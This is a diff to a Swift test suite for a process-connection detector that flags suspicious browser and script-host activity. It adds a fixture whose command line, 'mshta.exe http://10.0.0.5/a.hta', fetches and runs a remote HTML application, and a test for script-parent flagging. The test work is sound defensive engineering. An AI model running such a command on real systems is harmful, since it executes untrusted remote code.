@@ -208,6 +208,12 @@ func beacon(_ scene: BrowserScene, count: Int64 = 20, every seconds: Int64 = 60,
             $0.commandLine = "mshta.exe -Embedding"
             $0.parent = serviceHost
         },
+        ConnectionCase("an HTML application from the network", .unexpected, [.scriptEngine, .remotePage]) {
+            $0.executable = "C:\\Windows\\System32\\mshta.exe"
+            $0.commandLine = "mshta.exe http://10.0.0.5/a.hta"
+            $0.destinationIP = "10.0.0.5"
+            $0.destinationDomain = ""
+        },
         ConnectionCase("headless", .unexpected, [.headless]) {
             $0.commandLine = "chrome.exe --headless --dump-dom http://a.example/"
         },
@@ -300,6 +306,16 @@ func beacon(_ scene: BrowserScene, count: Int64 = 20, every seconds: Int64 = 60,
         var event = inner.connection()
         event.ancestors += [Process(executable: chrome, pid: 1), Process(executable: explorer, pid: 2)]
         #expect(verdict(event).browserReasons.contains("script-parent"))
+    }
+
+    @Test func theDesktopIsNoLogonScript() {
+        let scene = BrowserScene().with {
+            $0.parent = "C:\\Windows\\System32\\mshta.exe"
+            $0.grandparent = explorer
+        }
+        var event = scene.connection()
+        event.ancestors.append(Process(executable: "C:\\Windows\\System32\\userinit.exe", pid: 200))
+        #expect(verdict(event).browserReasons == ["script-parent"])
     }
 
     @Test func aProcessThatStartedLaterIsNotTheOneReachedInto() {
